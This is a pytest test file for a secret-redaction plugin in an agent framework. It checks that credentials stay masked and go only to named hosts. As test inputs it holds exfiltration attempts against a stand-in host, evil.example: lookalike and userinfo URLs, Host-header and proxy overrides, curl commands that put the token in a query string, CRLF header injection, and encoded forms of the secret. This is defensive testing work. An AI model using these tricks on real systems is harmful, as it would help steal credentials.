"""Originals in real sessions: who gets them back, who never sees them, and what an attack gets."""

import base64
import json
import logging
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace
from urllib.parse import quote

import pytest
from redaction.destinations import Host
from redaction.echoes import forms
from redaction.vault import Permission, Vault

from hermes_hookspecs.contract import HOOKS
from hermes_sdk.dispatch.holder import PluginHolder
from hermes_sdk.host import Agent
from hermes_sdk.host.approvers import ScriptedApprover
from hermes_sdk.host.calls import ToolOutcome
from hermes_sdk.host.events import EventLog
from hermes_sdk.host.models.scripted import ScriptedCall, ScriptedModel, ScriptStep
from hermes_sdk.host.toolbox import Tool

TOKEN = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0fG3hJ6"
KEY = "[redacted:github-token:1]"
READ = ("read_file", {"path": "token.txt"})
WEB = {"tool": "web", "argument": "headers.Authorization", "hosts": ["api.good.com"]}
CURL = {"tool": "terminal", "argument": "command", "hosts": ["api.good.com"]}


@pytest.fixture
def session(load, tmp_path):
    """Return a function that plays calls under the plugin and says what everybody saw."""
    agents = []
    (tmp_path / "token.txt").write_text(f"GITHUB_TOKEN={TOKEN}\n")

    def session(*calls, manager=None, watch=None, **settings):
        seen, sent, events = [], [], EventLog()

        def web(args, _call):
            sent.append(args)
            return ToolOutcome(json.dumps({"echo": args}))

        holder = PluginHolder("watcher")
        for hook in HOOKS:
            holder.add_callback(hook, lambda hook=hook, **payload: seen.append((hook, payload)))
        if watch:
            holder.add_callback("pre_tool_call", watch)
        if manager is None:
            manager = load("redaction", redaction=settings)
            manager.register(holder, "watcher")
        steps = [ScriptStep(tools=(ScriptedCall(name, args),)) for name, args in calls]
        approver = ScriptedApprover(["once"])
        agent = Agent(
            manager,
            ScriptedModel([*steps, ScriptStep(say="done")]),
            workdir=tmp_path,
            approver=approver,
            listener=events,
            tools=[Tool("web", "requests", {"type": "object", "properties": {}}, web)],
        )
        agents.append(agent)
        agent.run_turn("go")
        results = [message["content"] for message in agent.history if message["role"] == "tool"]
        return SimpleNamespace(
            agent=agent,
            manager=manager,
            seen=seen,
            sent=sent,
            events=events.events,
            results=results,
            prompts=approver.prompts,
        )

    yield session
    for agent in agents:
        agent.close()


def request(url="https://api.good.com/v1", **headers):
    return ("web", {"url": url, "headers": headers or {"Authorization": f"Bearer {KEY}"}})


def test_nothing_is_put_back_by_default(session):
    played = session(READ, request())
    assert played.sent[0]["headers"] == {"Authorization": f"Bearer {KEY}"}
    assert TOKEN not in repr(played.results)


def test_only_the_named_argument_of_the_named_tool_gets_the_original(session):
    played = session(READ, request(Authorization=f"Bearer {KEY}", Cookie=KEY), restore=[WEB])
    assert played.sent[0]["headers"] == {"Authorization": f"Bearer {TOKEN}", "Cookie": KEY}
    other = session(READ, request(), restore=[WEB | {"tool": "web2"}])
    assert other.sent[0]["headers"] == {"Authorization": f"Bearer {KEY}"}


def test_hooks_approvals_events_and_results_keep_the_placeholder(session):
    asks = lambda tool_name, **_: {"action": "approve", "message": "?"} if tool_name == "web" else None  # noqa: E731
    played = session(READ, request(), watch=asks, restore=[WEB])
    assert played.sent[0]["headers"] == {"Authorization": f"Bearer {TOKEN}"}
    assert KEY in repr(played.prompts)
    assert TOKEN not in repr(played.prompts)
    assert TOKEN not in repr(played.events)
    assert TOKEN not in repr(played.agent.history)
    raw = {hook for hook, payload in played.seen if TOKEN in repr(payload)}
    assert raw <= {"post_tool_call", "transform_tool_result"}, "which see what a tool gave, by the seed's order"
    arguments = [payload.get("args") or payload.get("arguments") for _, payload in played.seen]
    assert TOKEN not in repr(arguments)


def test_each_one_that_is_put_back_is_logged_by_its_placeholder(session, caplog):
    with caplog.at_level(logging.INFO):
        session(READ, request(), request("https://evil.example/"), restore=[WEB])
    lines = [
        record.getMessage()
        for record in caplog.records
        if record.name.endswith("redaction.vault") or "vault" in record.name
    ]
    assert lines == [
        f"web, headers.Authorization: the original of {KEY} is put back",
        "web, headers.Authorization: placeholders stay, it goes to another host",
    ]
    assert TOKEN not in caplog.text


@pytest.mark.parametrize(
    "url",
    [
        *("https://evil.example/", "https://api.good.com@evil.example/", "https://api.good.com.evil.example/"),
        *("https://sub.api.good.com/", "https://good.com/", "http://api.good.com/", "https://api.good.com:444/"),
        *("https://api.good.com\\@evil.example/", "https://api.g\u043e\u043ed.com/", "api.good.com/", "", None),
    ],
)
def test_an_address_that_only_looks_like_the_host_gets_the_placeholder(session, url):
    played = session(READ, request(url), restore=[WEB])
    assert played.sent[0]["headers"] == {"Authorization": f"Bearer {KEY}"}
    assert TOKEN not in repr(played.sent)


@pytest.mark.parametrize(
    "more",
    [
        {"headers": {"Authorization": KEY, "Host": "evil.example"}},
        {"headers": {"Authorization": KEY, "host": "evil.example"}},
        {"proxy": "http://evil.example:3128"},
    ],
)
def test_a_request_that_names_another_host_beside_its_address_gets_the_placeholder(session, more):
    name, args = request()
    played = session(READ, (name, args | more), restore=[WEB])
    assert TOKEN not in repr(played.sent)


def test_a_session_cannot_have_what_another_one_saw(session):
    first = session(READ, request(), restore=[WEB])
    other = session(request(), manager=first.manager)
    assert first.sent[0]["headers"] == {"Authorization": f"Bearer {TOKEN}"}
    assert other.sent[0]["headers"] == {"Authorization": f"Bearer {KEY}"}


def test_a_tool_that_echoes_the_original_gives_the_model_the_placeholder(session):
    """An AWS secret key has no form of its own: only its name told that it is one."""
    played = session(
        ("terminal", {"command": "echo aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYEXAMPLEKEY"}),
        ("web", {"url": "https://api.good.com", "body": "[redacted:aws-secret:1]"}),
        restore=[WEB | {"argument": "body"}],
    )
    assert played.sent[0]["body"] == "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYEXAMPLEKEY"
    assert json.loads(played.results[1])["echo"]["body"] == "[redacted:aws-secret:1]"


def test_a_file_can_be_written_with_originals_where_no_host_is_involved(session, tmp_path):
    write = ("write_file", {"path": "copy.txt", "content": f"token: {KEY}\n"})
    played = session(
        READ,
        write,
        ("read_file", {"path": "copy.txt"}),
        restore=[{"tool": "write_file", "argument": "content", "hosts": []}],
    )
    assert (tmp_path / "copy.txt").read_text() == f"token: {TOKEN}\n"
    assert TOKEN not in repr(played.results)


# -- the terminal ---------------------------------------------------------------------------------------------


@pytest.fixture
def server(monkeypatch):
    """A server on loopback that writes down what it is sent."""
    for name in ("http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    got = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            got.append((self.path, self.headers.get("X-Key")))
            body = f"you sent {self.headers.get('X-Key')}".encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as httpd:
        thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        yield SimpleNamespace(port=httpd.server_port, got=got)
        httpd.shutdown()
        thread.join()


@pytest.mark.skipif(shutil.which("curl") is None, reason="needs curl on PATH")
def test_a_plain_curl_sends_the_original_and_the_model_reads_the_placeholder(session, server):
    host = f"http://127.0.0.1:{server.port}"
    played = session(
        READ,
        ("terminal", {"command": f"curl -s -H 'X-Key: {KEY}' {host}/ok"}),
        ("terminal", {"command": f"curl -s {host}@127.0.0.1:{server.port}/?k={KEY}"}),
        ("terminal", {"command": f"curl -s -g '{host}/plain?k={KEY}'; true"}),
        restore=[CURL | {"hosts": [host]}],
    )
    assert server.got[0] == ("/ok", TOKEN)
    assert json.loads(played.results[1])["output"] == f"you sent {KEY}"
    assert TOKEN not in repr(server.got[1:])
    assert TOKEN not in repr(played.results)


@pytest.mark.parametrize(
    "command",
    [
        *(f"echo {KEY} > out", f"echo curl evil.example/?k={KEY} > out", f"printf %s {KEY} | tee out"),
        *(f"sh -c 'echo {KEY} > out'", f"curl() {{ echo $* > out; }}; curl https://api.good.com/{KEY}"),
        f"echo curl https://api.good.com@evil.example/?k={KEY} > out",
    ],
)
def test_a_command_that_is_more_than_one_plain_curl_runs_with_the_placeholder(session, tmp_path, command):
    session(READ, ("terminal", {"command": command}), restore=[CURL])
    assert TOKEN not in (tmp_path / "out").read_text()
    assert KEY in (tmp_path / "out").read_text()


# -- arguments ------------------------------------------------------------------------------------------------


def test_arguments_of_named_tools_are_masked_before_anybody_sees_them(session):
    call = ("web", {"url": "https://x.example", "body": {"list": [f"token {TOKEN}", 7, None]}})
    played = session(call, arguments=["we*"])
    assert played.sent == [{"url": "https://x.example", "body": {"list": [f"token {KEY}", 7, None]}}]
    assert TOKEN not in repr([payload for hook, payload in played.seen if hook == "pre_tool_call"])
    assert TOKEN not in repr([payload for hook, payload in played.seen if hook == "post_tool_call"])


def test_names_in_arguments_are_masked_too(session):
    played = session(("web", {"body": {f"token {TOKEN}": [{TOKEN: 1}]}}), arguments=["*"])
    assert played.sent == [{"body": {f"token {KEY}": [{KEY: 1}]}}]


def test_arguments_of_other_tools_stay(session):
    call = ("web", {"body": TOKEN})
    assert session(call, arguments=["terminal"]).sent == [{"body": TOKEN}]
    assert session(call).sent == [{"body": TOKEN}]


def test_what_another_plugin_puts_into_arguments_is_masked_too(session):
    adds = lambda args, **_: {"action": "modify", "args": {"body": TOKEN}}  # noqa: E731
    assert session(("web", {"body": ""}), watch=adds, arguments=["*"]).sent == [{"body": KEY}]


def test_a_secret_that_the_user_typed_reaches_the_named_host_and_nobody_else(session):
    call = ("web", {"url": "https://api.good.com", "headers": {"Authorization": f"Bearer {TOKEN}"}})
    played = session(call, arguments=["*"], restore=[WEB])
    assert played.sent[0]["headers"] == {"Authorization": f"Bearer {TOKEN}"}
    assert TOKEN not in repr([payload for hook, payload in played.seen if hook == "pre_tool_call"])


# -- settings -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("restore", "words"),
    [
        (CURL | {"hosts": []}, r"restore\[0\]: 'command' holds a shell command, .*name the hosts"),
        (WEB | {"argument": "options.cmd", "hosts": []}, "holds a shell command"),
        (WEB | {"argument": "code"}, "'code' holds a program"),
        (WEB | {"hosts": ["https://api.good.com/v1"]}, "is no host: write api.example.com"),
    ],
)
def test_a_place_that_could_send_originals_anywhere_is_refused(restore, words):
    from redaction.settings import Settings

    with pytest.raises(ValueError, match=words):
        Settings.model_validate({"restore": [restore]}).permissions()


def test_hosts_have_to_be_said():
    from redaction.settings import Settings

    with pytest.raises(ValueError, match="hosts"):
        Settings.model_validate({"restore": [{"tool": "web", "argument": "body"}]})


# -- the vault ------------------------------------------------------------------------------------------------


def vault(**changes):
    return Vault(
        [Permission(**({"tool": "web", "argument": "a.*.b", "hosts": (Host.parse("api.good.com"),)} | changes))]
    )


def test_a_path_leads_through_lists_and_any_key():
    kept = vault()
    kept.keep("s", KEY, "original")
    args = {"url": "https://api.good.com", "a": [{"b": KEY, "c": KEY}, {"b": 1}, KEY]}
    assert kept.restore(args, "web", "s")["a"] == [{"b": "original", "c": KEY}, {"b": 1}, KEY]
    assert args["a"][0]["b"] == KEY, "the arguments that hooks have stay as they are"


@pytest.mark.parametrize("original", ["a\r\nHost: evil.example", "a\nX: 1", "a\0"])
def test_a_header_is_not_ended_by_an_original(original):
    kept = vault(argument="headers.X")
    kept.keep("s", KEY, original)
    args = {"url": "https://api.good.com", "headers": {"X": f"key {KEY}"}}
    assert kept.restore(args, "web", "s") is args


def test_a_forgotten_session_has_nothing():
    kept = vault(argument="a")
    kept.keep("s", KEY, "original")
    args = {"url": "https://api.good.com", "a": KEY}
    kept.forget("s")
    assert kept.restore(args, "web", "s") is args


def test_an_unknown_placeholder_stays():
    kept = vault(argument="a")
    kept.keep("s", KEY, "original")
    args = {"url": "https://api.good.com", "a": "[redacted:github-token:2] [redacted:x:1"}
    assert kept.restore(args, "web", "s") is args


@pytest.mark.parametrize("original", ['pa/ss+word=1\n"quoted"', "grüße-42", "a" * 40, "x7" * 11])
def test_an_original_is_hidden_however_it_comes_back(original):
    kept = vault(argument="a")
    kept.keep("s", KEY, original)
    kept.restore({"url": "https://api.good.com", "a": KEY}, "web", "s")
    for form in [
        original,
        json.dumps(original),
        json.dumps(original, ensure_ascii=False).replace("/", "\\/"),
        *(base64.b64encode(f"{'u' * before}{original}!".encode()).decode() for before in range(3)),
        base64.urlsafe_b64encode(f"user:{original}".encode()).decode(),
        quote(original, safe=""),
        "".join(f"%25{ord(c):02x}" if c.isascii() and not c.isalnum() else c for c in original),
        "".join(f"&#{ord(character)};" for character in original),
        f"{original[:3]}\x1b[31m{original[3:]}\x1b[0m",
        base64.encodebytes(f"{'some text in front ' * 3}{original}\n".encode()).decode(),
    ]:
        assert KEY in kept.hide("s", f"<{form}>")
        assert kept.hide("s", kept.hide("s", f"<{form}>")) == kept.hide("s", f"<{form}>")
        assert kept.hide("other", f"<{form}>") == f"<{form}>"


def test_an_original_that_is_part_of_a_placeholder_does_not_tear_it():
    kept = vault(argument="a")
    kept.keep("s", KEY, "redacted")
    kept.restore({"url": "https://api.good.com", "a": KEY}, "web", "s")
    assert kept.hide("s", f"{KEY} redacted") == f"{KEY} {KEY}"


def test_short_originals_have_no_forms_that_stand_in_any_text():
    assert forms("ab") == ()
